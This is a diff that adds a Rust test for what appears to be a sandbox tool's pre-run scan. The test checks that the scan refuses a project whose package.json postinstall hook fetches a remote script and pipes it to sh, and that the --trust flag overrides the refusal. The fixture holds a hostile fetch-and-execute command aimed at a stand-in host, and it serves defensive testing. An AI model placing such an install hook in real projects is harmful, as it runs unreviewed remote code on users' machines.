@@ -890,3 +890,29 @@ fn json_summary_reports_layers_and_usage() {
         .unwrap();
     assert_eq!(cg["state"], "enforced", "{v}");
 }
+
+#[test]
+fn prerun_scan_refuses_a_hostile_project_unless_trusted() {
+    let ws = Ws::new();
+    ws.write(
+        "package.json",
+        "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://payload.example.invalid/i.sh | sh\"}}\n",
+    );
+    let marker = ws.path().join("ran");
+    let script = format!("touch {}", marker.display());
+    let out = sandbox(ws.path(), &[], &script);
+    assert_eq!(code(&out), 125, "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("refusing to run") && stderr(&out).contains("postinstall"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        !marker.exists(),
+        "the command ran although the scan refused"
+    );
+    let out = sandbox(ws.path(), &["--trust"], &script);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    assert!(stderr(&out).contains("running anyway"), "{}", stderr(&out));
+    assert!(marker.exists());
+}
